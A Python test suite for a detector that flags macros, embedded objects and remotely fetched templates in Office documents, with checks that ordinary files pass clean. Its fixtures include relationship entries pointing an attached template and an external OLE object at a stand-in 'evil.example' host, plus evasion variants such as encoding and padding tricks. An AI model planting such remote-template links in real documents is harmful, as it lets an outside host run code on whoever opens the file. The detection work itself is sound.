"""Macros and what fetches them are found in office documents; what ordinary ones hold is not taken for it."""

import io
import re
import zipfile

import pytest
import xlsxwriter

from civique.services.analysis import analyse
from civique.services.office import office_has_program
from tests.defences import defence, replaced

TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
LINK = '<Relationships><Relationship Id="r1" {}/></Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def document(**parts):
    """A .docx with more parts."""
    return archive({"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"} | parts)


def archive(parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return buffer.getvalue()


def has_program(data):
    return office_has_program(io.BytesIO(data))


def test_ordinary_documents_have_none():
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer)
    book.add_worksheet().write_url(0, 0, "https://example.org")
    book.close()
    assert not has_program(buffer.getvalue())
    site = f'Type="{OFFICE}/hyperlink" Target="https://example.org" TargetMode="External"'
    own = f'Type="{OFFICE}/attachedTemplate" Target="Normal.dotm"'
    assert not has_program(document(**{"word/_rels/document.xml.rels": LINK.format(site)}))
    assert not has_program(document(**{"word/_rels/settings.xml.rels": LINK.format(own)}))
    assert not has_program(document(**{"xl/printerSettings/printerSettings1.bin": "x", "word/media/a.png": "x"}))
    assert not has_program(archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}))


@defence("no document holds macros", replaced("civique.services.office.PROGRAMS", re.compile("(?!)")))
@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin",
        "xl/VBAPROJECT.BIN",
        "word\\vbaProject.bin",
        "elsewhere/vbaProject.bin.rels",
        "xl/macrosheets/sheet1.xml",
        "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin",
        "Basic/Standard/Module1.xml",
        "Scripts/python/macro.py",
    ],
)
def test_programs_are_found_by_their_place(name):
    assert has_program(document(**{name: "x"}))


@defence("no document fetches macros", replaced("civique.services.office._says", lambda *_: False))
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("[Content_Types].xml", TYPES.replace("openxmlformats-officedocument", "ms-word.macroEnabled")),
        ("word/_rels/document.xml.rels", LINK.format('Type="x/vbaProject" Target="innocent.xml"')),
        (
            "word/_rels/settings.xml.rels",
            LINK.format(f'TargetMode="External" Type="{OFFICE}/attachedTemplate" Target="https://evil.example/a.dotm"'),
        ),
        (
            "word/_rels/document.xml.rels",
            LINK.format(f"Type='{OFFICE}/oleObject' Target='https://evil.example/a' TargetMode = 'External'"),
        ),
        ("word/_rels/document.xml.rels", LINK.format("").encode("utf-16")),
        ("word/_rels/document.xml.rels", " " * 3_000_000),
    ],
)
def test_programs_are_found_by_what_names_them(name, content):
    parts = {"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"} | {name: content}
    assert has_program(archive(parts))


def test_what_cannot_be_looked_at_is_not_trusted():
    assert has_program(b"PK\x03\x04 cut short")
    assert has_program(document(**{f"word/{n}.xml": "" for n in range(5_001)}))
    assert analyse("office", document(**{"word/vbaProject.bin": "x"})) == (True, [])
    assert analyse("office", document()) == (False, [])
